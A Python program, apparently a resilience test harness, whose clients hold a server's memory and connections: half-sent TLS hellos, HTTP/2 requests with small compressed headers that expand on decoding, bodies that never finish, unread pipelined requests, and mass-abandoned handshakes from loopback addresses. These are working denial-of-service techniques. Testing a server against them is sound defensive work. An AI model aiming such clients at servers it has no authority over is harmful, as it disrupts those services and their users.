"""Clients that make a server hold memory and connections without finishing a request. This is a program.

    python resource_clients.py KIND HOST PORT COUNT SECONDS [ADDRESSES [TOKEN [SHARE]]]

    silent      sends nothing
    tls         sends half of a ClientHello
    heads       100 HTTP/2 requests on each connection, whose heads are 17 bytes on the wire and 16 KiB decoded, and
                whose bodies never come
    bodies      16 HTTP/2 requests on each connection, whose bodies lack their last byte
    readers     sends many HTTP/1.1 requests and reads no answer
    abort       COUNT times a second: connects, sends half of a ClientHello and resets the connection
    handshakes  does the same with the ClientHello of a real client: in turn the connection ends in its middle, after
                it, after the server's answer, and at the end of the handshake; by FIN and by RST

If a token is given, the requests of `heads` and `bodies` present it. Clients of these two kinds open a new connection
when the server has ended the old one. ADDRESSES is the number of loopback addresses, from 127.0.0.2 on, that the
clients use. SHARE is the part of the opened connections that the server must have ended before the clients leave. They
wait for it at most 60 seconds longer than SECONDS. The program prints one line when all clients are connected. At the
end it prints a line of JSON: how many connections were opened, how many the server ended, and how many bytes were sent.
"""

import functools
import json
import multiprocessing
import resource
import select
import socket
import ssl
import struct
import sys
import time

from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, SETTINGS_ACKNOWLEDGEMENT = b"\0\0\0\4\0\0\0\0\0", b"\0\0\0\4\1\0\0\0\0"
DATA, HEADERS, END_HEADERS = 0, 1, 4
STREAMS, BODIES, BODY_SIZE = 100, 16, 65_536
HELLO = bytes.fromhex("16030100c8010000c40303") + b"\x11" * 32
OPENING_SECONDS = 60
REOPENED = ("heads", "bodies")
REOPENED_AT_ONCE = 50
REOPENING_PAUSE_SECONDS = 0.02
WAIT_SECONDS = 60
ABORTING_PROCESSES = 4


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def header_blocks(size: int, count: int, token: str) -> tuple[bytes, bytes]:
    """The first field block, which puts a long field into the dynamic table, and the later block, which refers to it
    `count` times."""
    encoder = Encoder()
    request = [(":method", "POST"), (":path", "/fps/license"), (":scheme", "http"), (":authority", "a")]
    # Without a length, each body would reserve the maximum size, and the server would refuse most of the requests.
    length = [("content-length", "1" if count else str(BODY_SIZE))]
    fields = length + [("authorization", f"Bearer {token}")] * bool(token) + [("x-a", "a" * size)] * count
    return encoder.encode(request + fields, huffman=False), encoder.encode(request + fields, huffman=False)


def heads(token: str) -> bytes:
    # The dynamic table has 4096 bytes, and the token takes a part of them.
    first, later = header_blocks(3900 - len(token) - 64 * bool(token), 4, token)
    frames = [frame(HEADERS, END_HEADERS, 1 + 2 * index, later if index else first) for index in range(STREAMS)]
    return PREFACE + SETTINGS + SETTINGS_ACKNOWLEDGEMENT + b"".join(frames)


def bodies(token: str) -> bytes:
    first, later = header_blocks(0, 0, token)
    frames = [frame(HEADERS, END_HEADERS, 1 + 2 * index, later if index else first) for index in range(BODIES)]
    piece = b"a" * 16_383
    for index in range(BODIES):
        frames += [frame(DATA, 0, 1 + 2 * index, piece) for _ in range(BODY_SIZE // len(piece))]
    return PREFACE + SETTINGS + SETTINGS_ACKNOWLEDGEMENT + b"".join(frames)


FIRST = {
    "silent": lambda token: b"",
    "tls": lambda token: HELLO,
    "heads": heads,
    "bodies": bodies,
    "readers": lambda token: b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n" * 2000,
}


def open_one(kind: str, address: tuple[str, int], index: int, addresses: int) -> socket.socket:
    connection = socket.socket()
    connection.settimeout(5)
    if kind == "readers":
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
    connection.bind((f"127.0.{index % addresses // 250}.{2 + index % addresses % 250}", 0))
    connection.connect(address)
    return connection


def send_all(connection: socket.socket, data: bytes) -> int:
    """Sends as much as the server accepts without a wait, and returns the number of bytes."""
    connection.settimeout(0.5)
    sent = 0
    try:
        while sent < len(data):
            sent += connection.send(data[sent : sent + 65_536])
    except OSError:
        pass
    return sent


def ended(connections: list[socket.socket]) -> list[socket.socket]:
    """The connections that the server has ended."""
    poll = select.poll()
    names = {}
    for connection in connections:
        poll.register(connection, select.POLLRDHUP | select.POLLHUP | select.POLLERR)
        names[connection.fileno()] = connection
    return [names[number] for number, _ in poll.poll(0)]


# --- Handshakes that are abandoned -----------------------------------------------------------------------------------


@functools.cache
def client_context() -> ssl.SSLContext:
    """One context for all connections, without the system's authorities, because reading them takes longer than a
    handshake."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def real_hello() -> tuple[ssl.SSLObject, ssl.MemoryBIO, ssl.MemoryBIO, bytes]:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = client_context().wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return session, incoming, outgoing, outgoing.read()


def give_up(kind: str, connection: socket.socket, number: int, hello: bytes) -> None:
    """Abandons a handshake at one of several points."""
    if number % 2:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    if kind == "abort":
        connection.send(HELLO)
    elif (point := number // 2 % 8) < 2:
        connection.send(hello[: len(hello) // 2])
    elif point < 4:
        connection.send(hello)
    elif point < 7:
        connection.send(hello)
        connection.recv(65536)
    else:
        finish(connection)


def finish(connection: socket.socket) -> None:
    session, incoming, outgoing, hello = real_hello()
    connection.send(hello)
    while True:
        incoming.write(connection.recv(65536))
        try:
            session.do_handshake()
            break
        except ssl.SSLWantReadError:
            continue
    connection.send(outgoing.read())


def abort(kind: str, address: tuple[str, int], rate: int, seconds: float, addresses: int) -> dict[str, int]:
    hello = real_hello()[3]
    start, count, failed = time.monotonic(), 0, 0
    while time.monotonic() - start < seconds:
        if count > rate * (time.monotonic() - start):
            time.sleep(0.001)
            continue
        count += 1
        try:
            with open_one(kind, address, count, addresses) as connection:
                give_up(kind, connection, count, hello)
        except OSError:
            failed += 1
    return {"opened": count, "ended": failed, "sent": count * len(HELLO)}


def abort_from_processes(kind: str, *arguments: object) -> dict[str, int]:
    """Runs the attack from several processes, because one process does not reach the rate."""
    address, rate, *rest = arguments
    print(f"{rate} are there", flush=True)
    with multiprocessing.Pool(ABORTING_PROCESSES) as pool:
        share = (kind, address, rate // ABORTING_PROCESSES, *rest)
        tallies = pool.starmap(abort, [share] * ABORTING_PROCESSES)
    return {name: sum(tally[name] for tally in tallies) for name in tallies[0]}


# --- Connections that are held ---------------------------------------------------------------------------------------


def hold(
    kind: str, address: tuple[str, int], count: int, seconds: float, addresses: int, token: str, share: float
) -> dict[str, int]:
    first = FIRST[kind](token)
    connections: list[socket.socket] = []
    sent = failed = 0
    deadline = time.monotonic() + OPENING_SECONDS
    for index in range(count):
        if time.monotonic() > deadline:
            break
        try:
            connection = open_one(kind, address, index, addresses)
        except OSError:
            failed += 1
            continue
        connections.append(connection)
        sent += send_all(connection, first)
    print(f"{len(connections)} are there", flush=True)
    opened, count = len(connections), 0
    end = time.monotonic() + seconds

    def is_over() -> bool:
        now = time.monotonic()
        if not end <= now < end + WAIT_SECONDS:
            return now >= end
        return count + len(ended(connections)) + failed >= share * opened

    while not is_over():
        time.sleep(REOPENING_PAUSE_SECONDS)
        if kind not in REOPENED:
            continue
        for connection in ended(connections)[:REOPENED_AT_ONCE]:
            connections.remove(connection)
            connection.close()
            count += 1
            try:
                connections.append(open_one(kind, address, opened, addresses))
            except OSError:
                failed += 1
                continue
            opened += 1
            sent += send_all(connections[-1], first)
    return {"opened": opened, "ended": count + len(ended(connections)) + failed, "sent": sent}


def main() -> None:
    kind, host, port, count, seconds = sys.argv[1:6]
    addresses = int(sys.argv[6]) if len(sys.argv) > 6 else 1
    token = sys.argv[7] if len(sys.argv) > 7 else ""
    share = float(sys.argv[8]) if len(sys.argv) > 8 else 0
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    if kind in ("abort", "handshakes"):
        tally = abort_from_processes(kind, (host, int(port)), int(count), float(seconds), addresses)
    else:
        tally = hold(kind, (host, int(port)), int(count), float(seconds), addresses, token, share)
    print(json.dumps(tally), flush=True)


if __name__ == "__main__":
    main()
